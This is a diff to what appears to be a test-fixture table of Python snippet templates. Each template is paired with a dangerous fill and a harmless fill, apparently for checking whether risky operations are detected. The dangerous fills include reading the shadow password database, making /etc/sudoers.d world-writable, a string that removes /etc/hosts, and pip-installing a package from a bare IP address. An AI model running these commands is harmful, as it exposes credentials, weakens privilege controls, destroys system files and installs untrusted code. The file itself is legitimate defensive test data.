@@ -280,7 +280,7 @@ import §0
 for entry in §0.§1():
     print(entry)`,
     ['spwd', 'getspall'],
-    ['mimetypes', 'guess_all_extensions if False else list'],
+    ['calendar', 'TextCalendar().formatmonth(2026, 1).splitlines'],
   ],
   [
     'read-joined',
@@ -466,9 +466,9 @@ os.chown("§0", §1, §1)`,
 import os
 import stat
 
-os.chmod("§0", stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)`,
-    ['/etc/sudoers.d'],
-    ['public'],
+os.chmod("§0", §1)`,
+    ['/etc/sudoers.d', 'stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO'],
+    ['public', 'stat.S_IRWXU | stat.S_IRGRP'],
   ],
   // Writing what will run later.
   [
@@ -500,7 +500,7 @@ with open("§1", "w") as handle:
     `
 import base64
 
-text = "§0"
+text = '§0'
 open("§1", "wb").write(base64.b32encode(text.encode("utf-8")))`,
     ['__import__("os").remove("/etc/hosts")', '/opt/data.b32'],
     ['the list of guests', 'guests.b32'],
@@ -703,8 +703,8 @@ with open("big.bin", "wb") as handle:
 import subprocess
 import sys
 
-subprocess.check_call([sys.executable, "-m", "pip", "install", "§0"])`,
-    ['http://203.0.113.5/pkg/tool-1.0.tar.gz'],
-    ['-r', 'requirements.txt'],
+subprocess.check_call([sys.executable, "-m", "§0", "§1"])`,
+    ['pip", "install', 'http://203.0.113.5/pkg/tool-1.0.tar.gz'],
+    ['compileall', 'src'],
   ],
 ];
